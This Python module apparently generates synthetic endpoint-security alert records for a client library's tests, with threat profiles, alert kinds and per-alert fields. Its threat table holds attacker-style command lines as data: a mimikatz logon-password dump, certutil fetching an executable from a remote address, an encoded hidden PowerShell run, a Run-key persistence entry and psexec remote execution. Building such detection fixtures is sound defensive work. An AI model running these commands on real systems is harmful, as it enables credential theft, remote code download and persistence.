"""Cloud alert records as generated: the behaviours alerts are raised for (one per threat,
Windows and Unix variants), the alert kinds with their weights, and :func:`alert_row`, which
builds alert ``i`` from the seed alone. What a client changes later (workflow, notes) is kept
apart, in :class:`~cbasync.testing.dataset.cloud.alerts.AlertStore`.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Any

from cbasync.testing.dataset.cloud.common import GeneratedSet, iso, mix, stable, uuid_of, weighted

__all__ = [
    "ALERT_TYPES",
    "ALERT_WATCHLISTS",
    "SENSOR_ACTIONS",
    "THREATS",
    "Threat",
    "Workflow",
    "alert_row",
]


@dataclass(frozen=True)
class Threat:
    """A process behaviour that alerts are raised for."""

    name: str
    path_windows: str
    path_unix: str
    cmdline: str
    reputation: str
    parent: str
    reason: str
    ttps: tuple[str, ...]
    tactic: str

    def sha256(self) -> str:
        return hashlib.sha256(self.name.encode()).hexdigest()

    def md5(self) -> str:
        return hashlib.md5(self.name.encode(), usedforsecurity=False).hexdigest()


THREATS: tuple[Threat, ...] = (
    Threat("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "/usr/bin/pwsh", "powershell.exe -nop -w hidden -enc SQBFAFgA", "TRUSTED_WHITE_LIST", "winword.exe", "The application powershell.exe executed a fileless script or command.", ("FILELESS", "POLICY_TERMINATE", "MITRE_T1059_001_POWERSHELL"), "TA0002"),
    Threat("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "/tmp/mimikatz", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "KNOWN_MALWARE", "cmd.exe", "A known malware process (mimikatz.exe) attempted to read the memory of lsass.exe.", ("KNOWN_MALWARE", "READ_SECURITY_DATA", "MITRE_T1003_CREDENTIAL_DUMP"), "TA0006"),
    Threat("rundll32.exe", "c:\\windows\\system32\\rundll32.exe", "/usr/bin/rundll32", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "TRUSTED_WHITE_LIST", "explorer.exe", "The application rundll32.exe loaded an unsigned library from a public folder.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1218_011_RUNDLL32"), "TA0005"),
    Threat("invoice.pdf.exe", "c:\\users\\{user}\\downloads\\invoice.pdf.exe", "/home/{user}/invoice.pdf", "\"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\"", "SUSPECT_MALWARE", "outlook.exe", "A suspected malware file (invoice.pdf.exe) was executed from the Downloads folder.", ("SUSPECT_MALWARE", "RAN_UNTRUSTED", "MITRE_T1204_002_MALICIOUS_FILE"), "TA0002"),
    Threat("certutil.exe", "c:\\windows\\system32\\certutil.exe", "/usr/bin/certutil", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application certutil.exe downloaded a file from an untrusted address.", ("NETWORK_ACCESS", "MITRE_T1105_INGRESS_TOOL_TRANSFER"), "TA0011"),
    Threat("psexec.exe", "c:\\tools\\psexec.exe", "/usr/local/bin/psexec", "psexec.exe \\\\DC01 -s cmd.exe", "ADAPTIVE_WHITE_LIST", "cmd.exe", "The application psexec.exe started a remote service.", ("LATERAL_MOVEMENT", "MITRE_T1569_002_SERVICE_EXECUTION"), "TA0008"),
    Threat("curl", "c:\\windows\\system32\\curl.exe", "/usr/bin/curl", "curl -s http://203.0.113.50/install.sh", "TRUSTED_WHITE_LIST", "bash", "The application curl fetched a script piped into a shell.", ("RUN_CMD_SHELL", "MITRE_T1059_004_UNIX_SHELL"), "TA0002"),
    Threat("xmrig", "c:\\users\\{user}\\appdata\\local\\temp\\xmrig.exe", "/tmp/.x/xmrig", "xmrig -o pool.example.net:3333", "KNOWN_MALWARE", "bash", "A cryptocurrency miner (xmrig) was detected and terminated.", ("KNOWN_MALWARE", "POLICY_TERMINATE", "MITRE_T1496_RESOURCE_HIJACKING"), "TA0040"),
    Threat("wscript.exe", "c:\\windows\\system32\\wscript.exe", "/usr/bin/wscript", "wscript.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\update.js", "TRUSTED_WHITE_LIST", "chrome.exe", "The application wscript.exe executed a script downloaded by a browser.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1059_007_JAVASCRIPT"), "TA0002"),
    Threat("reg.exe", "c:\\windows\\system32\\reg.exe", "/usr/bin/reg", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application reg.exe added an autorun entry.", ("PERSISTENCE", "MITRE_T1547_001_REGISTRY_RUN_KEYS"), "TA0003"),
)  # fmt: skip


ALERT_TYPES: tuple[tuple[str, int], ...] = (
    ("CB_ANALYTICS", 50),
    ("WATCHLIST", 30),
    ("DEVICE_CONTROL", 6),
    ("CONTAINER_RUNTIME", 4),
    ("HOST_BASED_FIREWALL", 5),
    ("INTRUSION_DETECTION_SYSTEM", 5),
)


ALERT_WATCHLISTS = (
    ("NT2FaWdORZWY1YUTcEpULA", "ATT&CK Framework"),
    ("9x0timurQkQA0NdyCVgLg", "Suspicious Indicators"),
    ("w7iTsKs4QPKfgodG8dLLiw", "AMSI Threat Intelligence"),
)


SENSOR_ACTIONS = ("DENY", "TERMINATE", "ALLOW", "ALLOW_AND_LOG")


@dataclass
class Workflow:
    """An alert's user-changeable state."""

    status: str = "OPEN"
    closure_reason: str = "NO_REASON"
    note: str | None = None
    changed_by: str = "ALERT_CREATION"
    changed_by_type: str = "SYSTEM"
    change_timestamp: float = 0.0
    determination: str = "NONE"


def alert_row(alerts: GeneratedSet, i: int) -> dict[str, Any]:
    """Alert ``i`` of the set: its v7 record before any workflow change."""
    seed, count, endpoints = alerts.seed, alerts.count, alerts.endpoints
    epoch, history, org_key = alerts.epoch, alerts.history, alerts.org_key
    h = mix(seed, i, 77)
    kind = weighted(ALERT_TYPES, h)
    ep = endpoints[(h >> 8) % len(endpoints)]
    windows = ep.os_family == "windows"
    threat_index = (h >> 16) % max(1, count // 4 or 1)
    profile = THREATS[(threat_index + (0 if windows else 6)) % len(THREATS)]
    backend = epoch - (i + 0.5) * history / max(count, 1) - (h >> 24) % 600
    first = backend - 60 - (h >> 32) % 3600
    last = backend - (h >> 40) % 60
    severity = 1 + (h >> 48) % 10
    user = ep.username.rsplit("\\", 1)[-1]
    path = (profile.path_windows if windows else profile.path_unix).replace("{user}", user)
    cmdline = profile.cmdline.replace("{user}", user)
    pid = 1000 + (h >> 20) % 60_000
    parent_pid = 400 + (h >> 28) % 8000
    threat_id = f"{stable('threat', seed, threat_index):032X}"[:32]
    device_guid = f"{ep.device_id & 0xFFFFFFFF:08x}"
    process_guid = f"{org_key}-{device_guid}-{pid:08x}-00000000-1d{(h >> 4) % 16**13:013x}"
    parent_guid = f"{org_key}-{device_guid}-{parent_pid:08x}-00000000-1d{(h >> 6) % 16**13:013x}"
    alert_id = uuid_of("alert", seed, i)
    sensor_action = SENSOR_ACTIONS[(h >> 3) % 4] if kind == "CB_ANALYTICS" else "ALLOW"
    row: dict[str, Any] = {
        "org_key": org_key,
        "alert_url": f"defense.conferdeploy.net/alerts?s[c][query_string]=id:{alert_id}&orgKey={org_key}",
        "id": alert_id,
        "type": kind,
        "backend_timestamp": iso(backend),
        "user_update_timestamp": None,
        "backend_update_timestamp": iso(backend + 30),
        "detection_timestamp": iso(last),
        "first_event_timestamp": iso(first),
        "last_event_timestamp": iso(last),
        "severity": severity,
        "reason": profile.reason,
        "reason_code": f"{stable('rc', profile.name):016x}"[:8]
        + ":"
        + f"{stable('rc2', kind):016x}"[:8],
        "threat_id": threat_id,
        "primary_event_id": f"{stable('event', seed, i):032x}"[:22],
        "policy_applied": "APPLIED" if sensor_action in ("DENY", "TERMINATE") else "NOT_APPLIED",
        "run_state": "DID_NOT_RUN" if sensor_action in ("DENY", "TERMINATE") else "RAN",
        "sensor_action": sensor_action,
        "tags": ["emulated"] if i % 11 == 0 else [],
        "is_updated": False,
        "device_id": ep.device_id,
        "device_name": ep.hostname,
        "device_uem_id": "",
        "device_target_value": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
        "device_policy": ep.policy_name,
        "device_policy_id": ep.policy_id,
        "device_os": ep.cloud_os,
        "device_os_version": ep.cloud_os_version,
        "device_username": ep.username,
        "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
        "device_external_ip": ep.external_ip,
        "device_internal_ip": ep.internal_ip,
        "mdr_alert": False,
        "mdr_alert_notes_present": False,
        "mdr_threat_notes_present": False,
        "ttps": list(profile.ttps),
        "attack_tactic": profile.tactic,
        "attack_technique": profile.ttps[-1].split("_")[1] if "MITRE" in profile.ttps[-1] else "",
        "process_guid": process_guid,
        "process_pid": pid,
        "process_name": profile.name,
        "process_sha256": profile.sha256(),
        "process_md5": profile.md5(),
        "process_effective_reputation": profile.reputation,
        "process_reputation": profile.reputation,
        "process_cmdline": cmdline,
        "process_username": ep.username,
        "process_issuer": [],
        "process_publisher": [],
        "parent_guid": parent_guid,
        "parent_pid": parent_pid,
        "parent_name": profile.parent,
        "parent_sha256": hashlib.sha256(profile.parent.encode()).hexdigest(),
        "parent_md5": hashlib.md5(profile.parent.encode(), usedforsecurity=False).hexdigest(),
        "parent_effective_reputation": "TRUSTED_WHITE_LIST",
        "parent_reputation": "TRUSTED_WHITE_LIST",
        "parent_cmdline": profile.parent,
        "parent_username": ep.username,
        "childproc_guid": "",
        "childproc_username": "",
        "childproc_cmdline": "",
        "process_path": path,
        "alert_origin": "MDR_THREAT_HUNT" if i % 97 == 5 else "PRODUCT",
    }
    if kind == "WATCHLIST":
        wl_id, wl_name = ALERT_WATCHLISTS[h % len(ALERT_WATCHLISTS)]
        row.update(
            {
                "watchlists": [{"id": wl_id, "name": wl_name}],
                "report_id": f"{wl_id}-{profile.tactic}",
                "report_name": f"Suspicious {profile.name}",
                "report_link": "https://attack.mitre.org/tactics/" + profile.tactic,
                "report_tags": [profile.tactic.lower()],
                "report_description": profile.reason,
                "ioc_id": f"{stable('ioc', profile.name):016x}",
                "ioc_field": "process_name",
                "ioc_hit": f"process_name:{profile.name}",
                "reason": f'Process {profile.name} was detected by the report "Suspicious {profile.name}" in watchlist "{wl_name}"',
            }
        )
    elif kind == "CB_ANALYTICS":
        row.update(
            {
                "blocked_threat_category": "NON_MALWARE" if sensor_action != "ALLOW" else "UNKNOWN",
                "not_blocked_threat_category": "UNKNOWN",
                "kill_chain_status": ["INSTALL_RUN"],
                "threat_cause_vector": "WEB" if h % 3 else "EMAIL",
            }
        )
    elif kind == "DEVICE_CONTROL":
        row.update(
            {
                "reason": "Access attempted on unapproved USB device SanDisk Cruzer Blade (SN: 4C530001"
                f"{h % 10**8:08d}). A Block Policy Action was applied.",
                "external_device_friendly_name": "SanDisk Cruzer Blade",
                "product_id": "0x5567",
                "vendor_id": "0x0781",
                "vendor_name": "SanDisk",
                "serial_number": f"4C530001{h % 10**8:08d}",
                "policy_applied": "APPLIED",
                "run_state": "DID_NOT_RUN",
                "sensor_action": "DENY",
            }
        )
    elif kind == "HOST_BASED_FIREWALL":
        row.update(
            {
                "reason": f"The firewall blocked an outbound connection from {profile.name} to 203.0.113.{h % 250}:443.",
                "rule_name": "Block untrusted egress",
                "remote_ip": f"203.0.113.{h % 250}",
                "remote_port": 443,
                "protocol": "TCP",
                "egress_group_name": "Internet",
            }
        )
    elif kind == "INTRUSION_DETECTION_SYSTEM":
        row.update(
            {
                "reason": "Signature 2024897 (ET EXPLOIT Possible Log4j RCE) matched inbound traffic.",
                "threat_name": "ET EXPLOIT Possible Log4j RCE",
                "ids_signature_id": 2_024_897,
                "remote_ip": f"198.51.100.{h % 250}",
                "remote_port": 51_000 + h % 1000,
                "local_port": 8080,
            }
        )
    elif kind == "CONTAINER_RUNTIME":
        row.update(
            {
                "reason": "A container made an egress connection to an address outside its network policy.",
                "cluster_name": "prod-east",
                "namespace": "payments",
                "workload_kind": "Deployment",
                "workload_name": "checkout-api",
                "replica_id": f"checkout-api-{h % 10**5:05d}",
            }
        )
    return row
